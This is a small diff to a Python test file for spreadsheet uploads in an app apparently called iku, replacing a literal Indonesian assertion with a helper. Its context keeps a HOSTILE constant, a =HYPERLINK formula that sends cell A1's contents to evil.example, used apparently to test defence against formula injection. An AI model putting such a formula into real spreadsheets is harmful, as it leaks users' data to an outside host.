@@ -12,7 +12,7 @@ from openpyxl import Workbook, load_workbook
 
 from iku import xlsx
 from tests.factories import client_for
-from tests.iku.test_xlsx import PUBLISHED, draft_of, post_file, upload, workbook
+from tests.iku.test_xlsx import PUBLISHED, assert_typed_kept, draft_of, post_file, upload, workbook
 from workflow.steps import STEP_BY_NUMBER
 
 HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
@@ -107,7 +107,7 @@ def test_a_formula_cell_without_its_value_is_named_with_the_formula_and_nothing_
         f"tidak tersimpan di berkas; {advice}",
     ]
     page = post_file(people, dossier, content).content.decode()
-    assert "Berkas tidak dimuat; draf tidak berubah." in page
+    assert_typed_kept(page)
     assert "baris 5, kolom F: Sel ini berisi rumus =SUM(F4:F4)*2" in page
     assert draft_of(people, dossier) == []
 
